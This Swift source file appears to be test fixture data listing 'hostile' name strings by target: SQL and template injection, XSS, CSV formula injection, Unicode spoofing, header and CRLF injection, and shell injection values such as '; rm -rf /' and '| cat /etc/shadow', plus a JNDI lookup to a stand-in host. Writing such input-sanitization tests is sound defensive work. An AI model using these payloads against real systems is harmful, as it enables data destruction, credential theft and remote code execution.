/// Hostile texts by target. Each is valid as a name: 2 to 100 characters after cleaning.
enum HostileText {
  static let all: [(name: String, texts: [String])] = [
    (
      "sql",
      [
        "Robert'); DROP TABLE conversations;--", "' OR '1'='1", "$$; SELECT pg_sleep(10); $$", "O\u{02BC}Neil %_\\",
        "\\x41",
      ]
    ),
    (
      "html",
      [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>", "</title><b>bold",
        "<a href=\"javascript:alert(1)\">click</a>", "&lt;b&gt; &amp; &#x27;",
      ]
    ),
    (
      "slack",
      [
        "<!channel> urgent", "<!here|here>", "<@U012AB3CD>", "<https://evil.example|your bank>",
        "*bold* _it_ ~s~ `code`", "> quote",
      ]
    ),
    (
      "telegram",
      ["</b><a href=\"tg://user?id=1\">x</a>", "*_[x](https://evil.example)_*", "<tg-spoiler>x", "||x|| `y` \\_ {}"]
    ),
    (
      "csv",
      [
        "=HYPERLINK(\"https://evil.example\",\"Prize\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "＝1+1",
        ";=1+1",
      ]
    ),
    (
      "bidi",
      [
        "Sara \u{202E}demhA\u{202C}", "\u{2066}Omar\u{2069} Khan", "\u{202B}سارة\u{202C} Sara",
        "admin\u{200F}\u{200E} user",
      ]
    ),
    (
      "zero-width",
      ["S\u{200B}a\u{200C}r\u{200D}a", "\u{FEFF}Omar Khan", "A\u{00AD}li Has\u{2060}san", "Nоor\u{200B} Аli"]
    ),
    (
      "combining",
      [
        "Z" + String(repeating: "\u{0300}\u{0316}", count: 40) + "o", "e\u{0301}\u{0301}\u{0301} Ali",
        "ﷺ\u{064B}\u{064C}",
      ]
    ),
    (
      "header",
      [
        "Sara\r\nBcc: all@example.org", "Omar\nX-Priority: 1", "=?utf-8?b?U2FyYQ==?= Ahmed", "Ali%0d%0aSet-Cookie: a=b",
        ".\r\nQUIT",
      ]
    ),
    ("emoji", ["👩\u{200D}👩\u{200D}👧\u{200D}👦 Family", "🏳️\u{200D}🌈🇦🇪👍🏽", "👨🏿\u{200D}💻 Dev", "🏠🏡🏢"]),
    (
      "word",
      ["null", "undefined", "true", "NaN", "None", "N/A", "Optional(\"Sara\")", "[object Object]", "1e5", "0x1F"]
    ),
    (
      "json",
      [
        "{\"customerName\":\"Sara\"}", "[1,2,3]", "\",\"leadScore\":100,\"x\":\"", "\\u0000 \\ud800",
        "{\"requestContext\":{}}",
      ]
    ),
    ("template", ["{{7*7}}", "${jndi:ldap://evil.example/a}", "%s%s%n", "<%= 7*7 %>", "#{7*7}"]),
    ("shell", ["$(reboot)", "`id`", "; rm -rf /", "../../etc/passwd", "| cat /etc/shadow", "--help"]),
    (
      "control",
      ["\u{1B}[31mred\u{1B}[0m", "bell\u{7} \u{8}\u{8}back", "Sara\u{85}Ahmed\u{2028}Next", "tab\tseparated"]
    ),
  ]
}
